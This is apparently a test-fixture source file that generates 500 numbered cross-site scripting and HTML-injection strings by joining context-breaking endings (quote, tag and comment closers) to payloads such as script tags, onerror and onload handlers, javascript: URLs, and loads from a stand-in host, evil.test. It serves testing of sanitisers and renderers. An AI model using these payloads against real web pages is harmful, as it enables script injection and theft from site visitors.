// Five hundred texts that would run, load or break something if a page took them for more than text. Each names its
// number, so that whatever runs says which one it was, and is no longer than a name may be.

/** What ends the place that a text may stand in: markup, an attribute, a style, a script, a comment. */
const endings = [
  '', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</style>', '</script>', '</textarea>', '</noscript>', '</p>',
  '"/>', '\\"', "\\'", '`', '${', '{{', '&quot;>', '%22%3E', '\u200b', '\u2028', '*/', '</svg>',
];

/** What would run then; # is the number. */
const attacks = [
  '<script>alert(#)</script>',
  '<ScRiPt>alert(#)</sCrIpT>',
  '<script src=//evil.test/#.js></script>',
  '<img src=x onerror=alert(#)>',
  '<svg onload=alert(#)>',
  '<svg><animate onbegin=alert(#) attributeName=x>',
  '<iframe src=javascript:alert(#)>',
  '<a href=javascript:alert(#) id=x>x</a>',
  '<body onload=alert(#)>',
  '<input autofocus onfocus=alert(#)>',
  '<details open ontoggle=alert(#)>',
  '<link rel=stylesheet href=//evil.test/#>',
  '<style>@import "//evil.test/#"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.test/#">',
  '<base href=//evil.test/#/>',
  '<form action=//evil.test/#><button>',
  ' onfocus=alert(#) autofocus x=',
  ';alert(#)//',
  '<object data=javascript:alert(#)>',
  '<math><a xlink:href=javascript:alert(#)>x',
];

/** All of them, the number of each its place. */
export const payloads = endings
  .flatMap((ending) => attacks.map((attack) => ending + attack))
  .map((text, number) => text.replaceAll('#', String(number)));

/** What of each must be readable on a page, whatever was tidied away before it. */
export const marks = payloads.map((_, number) => attacks[number % attacks.length].trim().replaceAll('#', String(number)));
